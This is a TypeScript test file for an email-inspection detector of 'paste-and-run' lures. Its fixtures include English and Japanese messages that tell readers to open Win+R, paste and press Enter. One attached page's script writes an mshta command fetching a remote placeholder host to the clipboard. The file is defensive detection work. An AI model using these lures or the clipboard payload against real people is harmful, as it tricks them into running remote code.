import { aMail, htmlFile, textFile } from '@sekisho/specimens'
import { expect, test } from 'vitest'
import { inspected, spoke } from '../../testing/inspected.ts'

const ID = 'html.paste-and-run'

test.each([
  ['English', 'To verify you are human press Win + R, then Ctrl + V, then Enter.'],
  ['Japanese', '認証のため、Windowsキー＋R を押し、Ctrl＋V で貼り付けて Enter を押してください。'],
  ['the box by its name', '「ファイル名を指定して実行」を開き、コピーした文字を貼り付けてください。'],
])('a mail that asks for it: %s', async (_, text) => {
  const inspection = await inspected(aMail().html(`<p>${text}</p>`))
  expect(inspection.verdict).toBe('suspicious')
  expect(spoke(inspection)).toContain(ID)
})

test('a page that fills the clipboard with a command', async () => {
  const page = htmlFile(
    '確認.html',
    '<p>確認しています</p><script>navigator.clipboard.writeText("mshta https://a.example.net")</script>',
  )
  const { detections } = await inspected(aMail().attaching(page))
  expect(detections).toContainEqual(expect.objectContaining({ id: ID, severity: 'high' }))
})

test.each([
  [
    'copying a booking number',
    aMail().attaching(
      htmlFile('予約.html', '<button onclick="navigator.clipboard.writeText(number)">コピー</button><p>予約番号</p>'),
    ),
  ],
  ['keys of an application', aMail().text('Ctrl+V で貼り付けができます。')],
  ['the box alone', aMail().html('<p>Win+R から電卓を起動できます。</p>')],
  ['a text file with instructions', aMail().attaching(textFile('手順.txt', 'Win+R、Ctrl+V'))],
])('silent: %s', async (_, mail) => {
  expect(spoke(await inspected(mail))).not.toContain(ID)
})
